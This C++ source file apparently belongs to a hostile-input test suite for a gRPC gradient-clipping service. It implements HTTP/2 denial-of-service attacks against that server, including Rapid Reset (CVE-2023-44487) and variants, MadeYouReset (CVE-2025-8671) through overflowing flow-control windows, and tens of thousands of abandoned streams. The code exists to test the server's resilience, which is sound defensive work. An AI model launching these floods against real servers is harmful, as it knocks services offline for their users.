// Calls begun, broken off and left, in bulk, on one connection.
#include <algorithm>
#include <string>
#include <string_view>

#include "absl/functional/function_ref.h"
#include "absl/strings/str_cat.h"
#include "gradclip/v1/gradclip.pb.h"
#include "tests/hostile/attack.h"
#include "tests/hostile/frames.h"

namespace gradclip::hostile {
namespace {

// Begins `calls` calls of `path` with as few bytes as can be, with more(stream) behind each one's
// headers. A thousand go out at once.
absl::Status BeginOn(Attacker& attacker, absl::StatusOr<Http2Connection*> connection,
                     std::string_view path, int calls,
                     absl::FunctionRef<std::string(uint32_t)> more) {
  if (!connection.ok()) return connection.status();
  const RepeatedHeaders headers = RepeatedRequest(path);
  constexpr int kAtOnce = 1000;
  int begun = 0;
  absl::Status sent;
  while (begun < calls && attacker.HasTime() && sent.ok()) {
    std::string frames;
    for (int i = 0; i < kAtOnce && begun < calls; ++i, ++begun) {
      const uint32_t stream = (*connection)->NextStream();
      frames += Frame(FrameType::kHeaders, kEndHeaders, stream,
                      begun == 0 ? headers.first : headers.again);
      frames += more(stream);
    }
    sent = (*connection)->Send(frames, attacker.deadline());
    if (sent.ok() && (*connection)->reads()) sent = (*connection)->Poll();
  }
  attacker.Settle();
  const uint64_t resets = (*connection)->received().resets;
  attacker.Note(
      absl::StrCat(begun, " calls", resets > 0 ? absl::StrCat(", ", resets, " reset") : ""));
  return sent;
}

absl::Status Begin(Attacker& attacker, std::string_view path, int calls,
                   absl::FunctionRef<std::string(uint32_t)> more) {
  return BeginOn(attacker, attacker.Begin(), path, calls, more);
}

std::string EmptyMessageAndEnd(uint32_t stream) {
  return Frame(FrameType::kData, kEndStream, stream, Message({}));
}

std::string Nothing(uint32_t /*stream*/) {
  return {};
}

absl::Status CompleteCalls(Attacker& attacker) {
  return Begin(attacker, kGetServerInfo, 50'000, EmptyMessageAndEnd);
}

absl::Status RapidReset(Attacker& attacker) {
  return Begin(attacker, kClipGradNorm, 200'000, RstStream);
}

absl::Status RapidResetUnary(Attacker& attacker) {
  return Begin(attacker, kGetServerInfo, 200'000,
               [](uint32_t stream) { return EmptyMessageAndEnd(stream) + RstStream(stream); });
}

absl::Status RapidResetMessage(Attacker& attacker) {
  v1::ClipGradNormRequest request;
  request.mutable_start()->set_max_norm(1);
  request.mutable_start()->add_tensors()->set_dtype(v1::DTYPE_FLOAT32);
  const std::string message = Message(request.SerializeAsString());
  return Begin(attacker, kClipGradNorm, 200'000, [&](uint32_t stream) {
    return Frame(FrameType::kData, 0, stream, message) + RstStream(stream);
  });
}

// CVE-2025-8671: it is the server that resets, for a window beyond 2^31 - 1.
absl::Status MadeYouReset(Attacker& attacker) {
  return Begin(attacker, kClipGradNorm, 100'000, [](uint32_t stream) {
    constexpr uint32_t kMost = 0x7fffffff;
    return WindowUpdate(stream, kMost) + WindowUpdate(stream, kMost);
  });
}

absl::Status EndAtOnce(Attacker& attacker) {
  return Begin(attacker, kClipGradNorm, 50'000,
               [](uint32_t stream) { return Frame(FrameType::kData, kEndStream, stream, {}); });
}

absl::Status LeaveStreaming(Attacker& attacker) {
  return Begin(attacker, kClipGradNorm, 50'000, Nothing);
}

absl::Status LeaveUnary(Attacker& attacker) {
  return Begin(attacker, kGetServerInfo, 50'000, Nothing);
}

absl::Status LeaveUnheld(Attacker& attacker) {
  return BeginOn(attacker, attacker.BeginUnacknowledged(), kGetServerInfo, 50'000, Nothing);
}

absl::Status LeaveUnknown(Attacker& attacker) {
  return Begin(attacker, "/no.such.Service/Method", 50'000, Nothing);
}

absl::Status WatchHealth(Attacker& attacker) {
  return Begin(attacker, kHealthWatch, 50'000, EmptyMessageAndEnd);
}

}  // namespace

const std::vector<Attack>& AttacksOnStreams() {
  static const std::vector<Attack> attacks = {
      {"complete-calls", "GetServerInfo as it is meant to be, for comparison", CompleteCalls},
      {"rapid-reset", "CVE-2023-44487: HEADERS and RST_STREAM of ClipGradNorm", RapidReset},
      {"rapid-reset-unary", "whole calls of GetServerInfo, each with RST_STREAM", RapidResetUnary},
      {"rapid-reset-message", "ClipGradNorm with its first message, and RST_STREAM",
       RapidResetMessage},
      {"made-you-reset", "CVE-2025-8671: windows that overflow, so that the server resets",
       MadeYouReset},
      {"end-at-once", "ClipGradNorm half-closed without a message", EndAtOnce},
      {"left-streaming", "ClipGradNorm begun and left", LeaveStreaming},
      {"left-unary", "GetServerInfo begun and left", LeaveUnary},
      {"left-unheld", "the same by a client that acknowledges no limit", LeaveUnheld},
      {"left-unknown", "calls of no known method, begun and left", LeaveUnknown},
      {"health-watch", "health's Watch, which has no end", WatchHealth},
  };
  return attacks;
}

}  // namespace gradclip::hostile
